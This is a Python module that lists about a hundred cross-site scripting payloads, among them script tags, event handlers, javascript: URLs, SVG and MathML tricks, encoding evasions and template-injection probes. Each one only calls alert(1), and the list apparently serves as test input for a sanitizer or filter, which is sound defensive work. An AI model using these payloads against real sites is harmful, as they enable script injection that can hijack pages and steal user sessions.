"""What people try, to make a page run their script: each would call `alert`."""

from typing import Final

TAGS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<template><script>alert(1)</script></template><script>alert(1)</script>",
)

HANDLERS: Final = (
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<object data=x onerror=alert(1)></object>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1) title=x>hover</div>",
    "<a href=https://example.com onclick=alert(1)>click</a>",
    '" onmouseover="alert(1)" x="',
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    '<p hx-on:click="alert(1)" hx-get="/" hx-trigger=load hx-on::after-request=alert(1)>x</p>',
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
)

ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>click</a>",
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="java&Tab;script:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>" target=_self>click</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<embed src=javascript:alert(1)>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<form action=javascript:alert(1)><button autofocus>send</button></form>",
    "<button formaction=javascript:alert(1) form=x>send</button>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:/a/><a href=#alert(1)>click</a>",
)

DRAWINGS: Final = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>click</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(1)">',
    "<math><a xlink:href=javascript:alert(1)>click</a></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
)

STYLES: Final = (
    "<style>@import 'data:text/css,*{background:red}';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>body{animation:x 1s}@keyframes x{}</style><p onanimationstart=alert(1)>x</p>",
)

TEMPLATES: Final = (
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{% if 1 %}{{ cycler.__init__.__globals__ }}{% endif %}",
    "[[alert(1)]]",
)

BROKEN: Final = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<p><table><td><img src=x onerror=alert(1)><p>",
    "<b><i></b><img src=x onerror=alert(1)></i>",
    "<a href='https://example.com'><img src=x onerror=alert(1)//></a",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version=1?><script xmlns=http://www.w3.org/1999/xhtml>alert(1)</script>",
    "\u2028<img src=x onerror=alert(1)>",
    "<img src=x\u3000onerror=alert(1)><img src=x onerror=alert(1)>",
    "<x><![CDATA[<img src=x onerror=alert(1)>]]>",
)

PAYLOADS: Final = (*TAGS, *HANDLERS, *ADDRESSES, *DRAWINGS, *STYLES, *TEMPLATES, *BROKEN)
